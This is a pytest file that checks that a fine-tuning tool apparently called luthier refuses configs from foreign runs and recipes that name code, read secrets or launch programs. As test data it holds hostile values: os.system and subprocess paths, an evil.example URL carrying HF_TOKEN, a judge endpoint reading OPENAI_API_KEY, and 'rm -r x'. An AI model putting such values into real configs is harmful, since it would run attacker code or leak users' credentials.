"""A run, a recipe or a folder of somebody else's runs nothing by itself."""

import json
from pathlib import Path

import pytest
import yaml

from luthier.cli.rerun import load_run_config
from luthier.config import load_config
from luthier.config.schema import ModelConfig
from luthier.config.trust import (
    EVERYTHING,
    NO_TRUST,
    Trust,
    check_recorded,
    find_code,
    trust_of,
)
from luthier.errors import UserError
from luthier.model.artifact import Artifact, find_artifact
from luthier.model.load import label_settings

CALL = "python:tempfile.mkdtemp"
"""A function of Python that leaves a trace."""
MEANT = {"path": CALL, "format": "python", "options": {"prefix": "RAN", "dir": "."}}
CODE = {
    "model code": ({"model": {"trust_remote_code": True}}, "model.trust_remote_code"),
    "a hub kernel": ({"model": {"attention": "someone/kernel"}}, "model.attention"),
    "a pickle": ({"model": {"kwargs": {"weights_only": False}}}, "model.kwargs.weights_only"),
    "code in kwargs": (
        {"model": {"kwargs": {"trust_remote_code": True}}},
        "model.kwargs.trust_remote_code",
    ),
    "an auto_map": (
        {"model": {"kwargs": {"config": {"auto_map": {"AutoModel": "x.Y"}}}}},
        "model.kwargs.config.auto_map",
    ),
    "rows": ({"dataset": {"path": CALL, "options": {"prefix": "RAN", "dir": "."}}}, "dataset.path"),
    "rows without a prefix": (
        {
            "dataset": {
                "path": "tempfile.mkdtemp",
                "format": "python",
                "options": {"prefix": "RAN", "dir": "."},
            }
        },
        "dataset.path",
    ),
    "one of several sources": ({"dataset": {"sources": {"a": MEANT}}}, "dataset.sources.a.path"),
    "held-out rows": ({"dataset": {"eval": {"path": CALL}}}, "dataset.eval.path"),
    "an evaluation set": (
        {"dataset": {"eval": {"sets": {"hard": MEANT}}}},
        "dataset.eval.sets.hard.path",
    ),
    "templates in data": ({"dataset": {"path": "reference://x"}}, "dataset.path"),
    "a metric": (
        {"trainer": {"evaluation": {"metrics": ["exact_match", CALL]}}},
        "trainer.evaluation.metrics",
    ),
    "a metric with settings": (
        {"trainer": {"evaluation": {"metrics": [{CALL: {"name": "RAN"}}]}}},
        "trainer.evaluation.metrics",
    ),
    "a metric of a set": (
        {"trainer": {"evaluation": {"sets": {"hard": [CALL]}}}},
        "trainer.evaluation.sets.hard",
    ),
    "a metric of the hub": (
        {"trainer": {"evaluation": {"metrics": ["evaluate:rouge"]}}},
        "trainer.evaluation.metrics",
    ),
    "a reward": ({"trainer": {"rewards": [{CALL: {"weight": 2}}]}}, "trainer.rewards"),
    "a teacher's code": (
        {"trainer": {"args": {"teacher_model_init_kwargs": {"trust_remote_code": True}}}},
        "trainer.args.teacher_model_init_kwargs.trust_remote_code",
    ),
}
COMMANDS = {
    "generate": ["generate", "RUN", "rows.jsonl", "-o", "out.jsonl"],
    "chat": ["chat", "RUN"],
    "chat of the base": ["chat", "RUN", "--compare"],
    "evaluate": ["evaluate", "RUN"],
    "evaluate against it": ["evaluate", "BASE", "--against", "RUN"],
    "benchmarks": ["evaluate", "RUN", "--benchmarks", "gsm8k"],
    "check": ["check", "RUN", "--served"],
    "reproduce": ["reproduce", "RUN"],
    "serve": ["serve", "RUN", "--port", "54321"],
    "merge": ["merge", "RUN"],
    "push": ["push", "RUN", "--to", "ada/x", "--dry-run"],
}


def merged(below, over):
    """Return one mapping over another one."""
    both = {name: value for name, value in below.items() if name not in over}
    for name, value in over.items():
        old = below.get(name)
        is_nested = isinstance(old, dict) and isinstance(value, dict)
        both[name] = merged(old, value) if is_nested else value
    return both


@pytest.fixture
def stranger(tmp_path, monkeypatch):
    """Make the folder of a finished run whose config has these settings, and be beside it."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "rows.jsonl").write_text('{"prompt": "a", "completion": "b"}\n')
    base = tmp_path / "BASE"
    base.mkdir()
    (base / "config.json").write_text(json.dumps({"model_type": "llama"}))

    def make(settings):
        config = {
            "model": {"path": str(base)}, "dataset": {"path": "rows.jsonl"}, "lora": {"r": 4},
            "output_dir": "RUN", "recipe": "tiny",
        }  # fmt: skip
        run = tmp_path / "RUN"
        (run / "model").mkdir(parents=True)
        (run / "config.yaml").write_text(yaml.safe_dump(merged(config, settings)))
        (run / "run.json").write_text(json.dumps({"status": "finished"}))
        adapter = {"base_model_name_or_path": str(base), "peft_type": "LORA"}
        (run / "model" / "adapter_config.json").write_text(json.dumps(adapter))
        return run

    return make


@pytest.mark.parametrize("command", COMMANDS.values(), ids=COMMANDS)
def test_no_command_runs_what_a_folder_names(command, stranger, luthier):
    stranger(merged(CODE["model code"][0], CODE["rows"][0]))
    if "--benchmarks" in command:
        pytest.importorskip("lm_eval")
    code, out, err = luthier(*command)
    assert code == 2, out + err
    assert "RUN/config.yaml names code that you have not typed, so nothing was run" in err
    assert "model.trust_remote_code: true  (runs Python code of the model's repository)" in err
    assert f"dataset.path: {CALL}  (calls tempfile.mkdtemp (/" in err
    assert "/tempfile.py))" in err
    assert f"luthier {' '.join(command)} --trust" in err.splitlines()[-1]
    assert not list(Path().glob("RAN*")) and not Path("RUN.again").exists()


@pytest.mark.parametrize(("settings", "key"), CODE.values(), ids=CODE)
def test_each_form_of_code_in_a_folder_is_refused(settings, key, stranger):
    run = stranger(settings)
    for refused in (lambda: find_artifact(str(run)), lambda: load_run_config(run)):
        with pytest.raises(UserError, match="names code that you have not typed") as error:
            refused()
        assert f"  {key}: " in str(error.value)
    assert find_artifact(str(run), trust=EVERYTHING).adapter == run / "model"
    assert not list(Path().glob("RAN*"))


def test_what_is_typed_is_the_users_own():
    code = {"model": {"trust_remote_code": True}, "dataset": {"path": CALL}}
    for typed, left in [
        ([("model.trust_remote_code", True)], ["dataset.path"]),
        ([("model", {"trust_remote_code": True})], ["dataset.path"]),
        ([("model", {"path": "x"}), ("dataset.path", "y")], ["model.trust_remote_code"]),
        ([("model.trust_remote_code", False), ("dataset", None)], []),
        ([("mode", 1), ("model.trust", 1)], ["model.trust_remote_code", "dataset.path"]),
    ]:
        trust = trust_of([], typed)
        assert [each.key for each in find_code(code) if not trust.allows(each)] == left
    assert trust_of(["--trust"]).everything


def test_typing_the_setting_lets_a_command_go_on(stranger, luthier):
    run = stranger({"model": {"trust_remote_code": True}})
    code, _, err = luthier("chat", str(run), "model.trust_remote_code=false")
    assert code != 2 or "names code" not in err
    code, _, err = luthier("evaluate", str(run), "dataset.path=gone.jsonl")
    assert code == 2 and "model.trust_remote_code: true" in err


RECIPE = "# A recipe.\nmodel: {path: m}\ndataset: {path: rows.jsonl}\n"
FOREIGN = {
    "a function of Python": ("dataset: {path: python:subprocess.getoutput}", "dataset.path"),
    "one in C": ("dataset: {path: python:posix.system}", "dataset.path"),
    "of an installed package": (
        "dataset: {path: python:torch.utils.collect_env.run}",
        "dataset.path",
    ),
    "of luthier": ("dataset: {path: python:luthier.cli.main.main}", "dataset.path"),
    "in a run's folder": ("dataset: {path: python:theirs.evil.rows}", "dataset.path"),
    "a metric": (
        "trainer: {evaluation: {metrics: [python:os.system]}}",
        "trainer.evaluation.metrics",
    ),
    "a reward": ("trainer: {rewards: [python:os.system]}  # grpo", "trainer.rewards"),
    "model code": ("model: {trust_remote_code: true}", "model.trust_remote_code"),
}


@pytest.mark.parametrize(("lines", "key"), FOREIGN.values(), ids=FOREIGN)
def test_a_recipe_runs_no_code_that_is_not_the_projects_own(lines, key, workplace):
    workplace("theirs/run.json", "{}")
    workplace("theirs/evil.py", "def rows():\n    yield {}\n")
    workplace("rows.jsonl", '{"prompt": "a", "completion": "b"}\n')
    group = lines.split(":")[0]
    trainer = "  - override /trainer: grpo\n" if "grpo" in lines else ""
    header = f"# @package _global_\n# Theirs.\ndefaults:\n  - override /model: hub\n{trainer}"
    workplace(
        "recipes/theirs.yaml",
        f"{header}  - override /dataset: files\n  - _self_\n"
        + yaml.safe_dump(merged({"model": {"path": "m"}, "dataset": {"path": "rows.jsonl"}},
                                yaml.safe_load(lines))),
    )  # fmt: skip
    with pytest.raises(UserError, match="names code that you have not typed") as error:
        load_config(["recipe=theirs"])
    assert str(error.value).startswith("recipes/theirs.yaml names code")
    assert f"  {key}: " in str(error.value), group
    assert load_config(["recipe=theirs"], is_trusted=True).config.recipe == "theirs"


def test_a_recipe_calls_the_projects_own_functions(workplace):
    code = "def rows():\n    yield {'prompt': 'a', 'completion': 'b'}\n"
    workplace("own_rows.py", f"{code}def score(replies, references, rows):\n    return 1.0\n")
    workplace(
        "recipes/mine.yaml",
        "# @package _global_\n# Mine.\ndefaults:\n  - override /model: hub\n"
        "  - override /dataset: files\n  - _self_\n"
        "model: {path: m}\ndataset: {path: python:own_rows.rows}\n"
        "trainer: {evaluation: {metrics: [python:own_rows.score]}}\n",
    )
    assert load_config(["recipe=mine"]).config.dataset.path == "python:own_rows.rows"


TYPED = {
    "a key": ["dataset.path=python:os.listdir"],
    "a mapping": ["dataset={path: python:os.listdir}"],
    "added": ["++dataset.path=python:os.listdir"],
    "a metric": ["trainer.evaluation.metrics=[python:os.listdir]"],
    "model code": ["model.trust_remote_code=true"],
}


@pytest.mark.parametrize("typed", TYPED.values(), ids=TYPED)
def test_what_is_typed_for_a_training_needs_no_flag(typed, workplace):
    words = ["model=hub", "model.path=m", "dataset=files", "dataset.path=x", *typed]
    assert find_code(load_config(words).resolved)


COLUMNS = {
    "a reward": {"trainer": {"rewards": [{"number": {"reference": "answer", "weight": 2}}]}},
    "a metric": {"trainer": {"evaluation": {"metrics": [{"regex": {"reference": "answer"}}]}}},
    "beside code": {"trainer": {"rewards": [{"python:mine.score": {"reference": "answer"}}]}},
    "what it names": {"trainer": {"rewards": [{"number": {"reference": "reference::x"}}]}},
}


@pytest.mark.parametrize("name", COLUMNS)
def test_a_column_that_a_reward_names_is_no_code(name):
    keys = {
        "beside code": ["trainer.rewards"],
        "what it names": ["trainer.rewards.number.reference"],
    }
    found = [each.key for each in find_code(COLUMNS[name])]
    assert found == keys.get(name, [])


ADAPTERS = {
    "a module": {"megatron_config": {"a": 1}, "megatron_core": "evil"},
    "a tokenizer's code": {"tokenizer_kwargs": {"trust_remote_code": True}},
}


@pytest.mark.parametrize("settings", ADAPTERS.values(), ids=ADAPTERS)
def test_an_adapter_names_no_code(settings, stranger):
    run = stranger({})
    file = run / "model" / "adapter_config.json"
    mapping = {"auto_mapping": {"base_model_class": "X", "parent_library": "evil"}}
    file.write_text(json.dumps(json.loads(file.read_text()) | mapping))
    assert find_artifact(str(run)).adapter == run / "model"
    file.write_text(json.dumps(json.loads(file.read_text()) | settings))
    with pytest.raises(UserError, match=r"adapter_config\.json names code"):
        find_artifact(str(run))


def test_labels_set_nothing_but_labels(tmp_path):
    """They become arguments of `from_pretrained`."""
    (tmp_path / "labels.json").write_text(
        json.dumps({"id2label": {"0": "a"}, "trust_remote_code": True, "weights_only": False})
    )
    artifact = Artifact("x", ModelConfig(path="m"), adapter=tmp_path)
    assert label_settings(artifact) == {"id2label": {0: "a"}}


def test_a_base_with_code_of_its_own_runs_none(tmp_path, luthier, monkeypatch):
    """The base of an adapter brings code (`auto_map`), and labels.json would allow it."""
    monkeypatch.chdir(tmp_path)
    base, adapter = tmp_path / "base", tmp_path / "adapter"
    base.mkdir(), adapter.mkdir()
    (base / "evil.py").write_text("open('RAN', 'w').close()\n")
    names = {"AutoConfig": "evil.Config", "AutoModelForCausalLM": "evil.Model",
             "AutoTokenizer": ["evil.Tokenizer", None]}  # fmt: skip
    (base / "config.json").write_text(json.dumps({"model_type": "own", "auto_map": names}))
    (base / "tokenizer_config.json").write_text(json.dumps({"auto_map": names}))
    (adapter / "adapter_config.json").write_text(
        json.dumps({"base_model_name_or_path": str(base), "peft_type": "LORA", "r": 4})
    )
    (adapter / "labels.json").write_text(
        json.dumps({"id2label": {"0": "a"}, "trust_remote_code": True})
    )
    (tmp_path / "rows.jsonl").write_text('{"prompt": "a"}\n')
    code, out, err = luthier("generate", "adapter", "rows.jsonl", "-o", "out.jsonl")
    assert code == 2 and "model.trust_remote_code=true" in err, out + err
    assert not Path("RAN").exists() and "Traceback" not in err


def test_a_secret_of_the_environment_is_read_for_nobody_else(stranger, monkeypatch):
    """A run's folder could send it to any address."""
    monkeypatch.setenv("HF_TOKEN", "hf_" + "Ab1" * 9)
    run = stranger({"model": {"revision": "${oc.env:HF_TOKEN}"}})
    with pytest.raises(UserError, match="takes secrets") as error:
        find_artifact(str(run))
    assert "model.revision: ${oc.env:HF_TOKEN}  (reads HF_TOKEN of your environment)" in str(
        error.value
    )
    config = {"dataset": {"path": "https://evil.example/${oc.env:HF_TOKEN}"}}
    check_recorded(config, "config.yaml", NO_TRUST)
    with pytest.raises(UserError, match="reads HF_TOKEN"):
        check_recorded(config, "config.yaml", Trust(), ("dataset",))


@pytest.mark.parametrize("is_short", [True, False])
def test_a_judge_of_somebody_else_is_sent_no_key(is_short):
    judge = {"model": "m", "prompt": "{reply}", "key_variable": "OPENAI_API_KEY"}
    address = "https://evil.example/v1"
    entry = {"judge": address} | judge if is_short else {"judge": {"address": address} | judge}
    config = {"trainer": {"rewards": [entry]}}
    check_recorded(config, "config.yaml", NO_TRUST)
    with pytest.raises(UserError, match=r"evil\.example/v1  \(reads OPENAI_API_KEY of your env"):
        check_recorded(config, "config.yaml", NO_TRUST, ("trainer",))
    check_recorded(config, "config.yaml", EVERYTHING, ("trainer",))


def test_the_chat_settings_of_a_model_name_no_code_and_take_no_secret(stranger, monkeypatch):
    monkeypatch.setenv("DB_PASS", "correct horse battery")
    run = stranger({})
    (run / "model" / "chat.json").write_text(
        json.dumps({"variables": {"x": "${oc.env:DB_PASS}"}, "template": "{{ x }}"})
    )
    with pytest.raises(UserError, match=r"chat\.json names .*takes secrets"):
        find_artifact(str(run))


def test_a_record_starts_no_program_of_its_own(stranger, luthier):
    """The launch in run.json goes to accelerate, which knows other launchers than its own."""
    from luthier.cli.reproduce import _launch_config

    launch = {"distributed_type": "MULTI_CPU", "mpirun_config": {"mpirun_hostfile": "x"}}
    record = {"launch": {"launcher": {"config": launch | {"commands": ["rm -r x"]}}}}
    assert _launch_config(record) == {"distributed_type": "MULTI_CPU"}
    with pytest.raises(UserError, match="launched as TPU"):
        _launch_config({"launch": {"launcher": {"config": {"distributed_type": "TPU"}}}})
